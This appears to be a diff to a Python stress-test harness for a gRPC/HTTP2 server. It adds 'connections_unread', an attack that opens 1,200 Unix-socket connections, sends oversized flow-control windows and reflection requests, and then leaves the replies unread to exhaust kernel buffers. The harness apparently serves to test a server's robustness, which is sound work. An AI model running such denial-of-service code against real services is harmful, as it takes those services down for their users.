@@ -8,8 +8,11 @@ would.
 from __future__ import annotations
 
 import contextlib
+import fcntl
 import select
 import socket
+import sys
+import termios
 import time
 from typing import TYPE_CHECKING
 
@@ -36,6 +39,7 @@ if TYPE_CHECKING:
 WINDOW_UPDATE, CONTINUATION, PRIORITY = 8, 9, 2
 PADDED, ACK = 8, 1
 REFLECTION = b"/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
+GREETING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
 _PIECE = 32 * 1024
 
 
@@ -49,7 +53,7 @@ class Attacker:
         self._socket = socket.socket(socket.AF_UNIX)
         self._socket.settimeout(5)
         self._connect()
-        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b""))
+        self.send(GREETING)
 
     def _connect(self) -> None:
         """Go on trying while the queue of the socket is full, as after an attack."""
@@ -186,6 +190,33 @@ def reflection_behind_shut_windows(at: Attacker) -> None:
     at.drain(2.0)
 
 
+def _readable(one: socket.socket) -> int:
+    """How many bytes the client could read."""
+    return int.from_bytes(fcntl.ioctl(one, termios.FIONREAD, bytes(4)), sys.byteorder)
+
+
+def connections_unread(at: Attacker) -> None:
+    """Fill the sockets of a thousand connections: what the kernel keeps for a sender is its own."""
+    ask = reflection_pb2.ServerReflectionRequest(
+        file_containing_symbol="envoy.service.secret.v3.SecretDiscoveryService"
+    ).SerializeToString()
+    wider = frame(WINDOW_UPDATE, 0, 0, (1 << 30).to_bytes(4, "big"))
+    asked = GREETING + wider + opened(REFLECTION, numbers(7), ask)
+    made: list[socket.socket] = []
+    with contextlib.ExitStack() as stack:
+        for _ in range(1_200):
+            one = stack.enter_context(socket.socket(socket.AF_UNIX))
+            one.settimeout(5)
+            with contextlib.suppress(OSError):
+                one.connect(str(at.path))
+                one.sendall(asked)
+                made.append(one)
+        before, there = -1, 0
+        while there > before:
+            time.sleep(3)
+            before, there = there, sum(map(_readable, made))
+
+
 def names(at: Attacker) -> None:
     asked = discovery_pb2.DiscoveryRequest(
         resource_names=[f"{number:05}" + "n" * 200 for number in range(2_000)]
@@ -296,6 +327,7 @@ ATTACKS: dict[str, Callable[[Attacker], None]] = {
         refused_calls,
         refused_requests,
         reflection_behind_shut_windows,
+        connections_unread,
         names,
         header_table,
         fields_by_index,
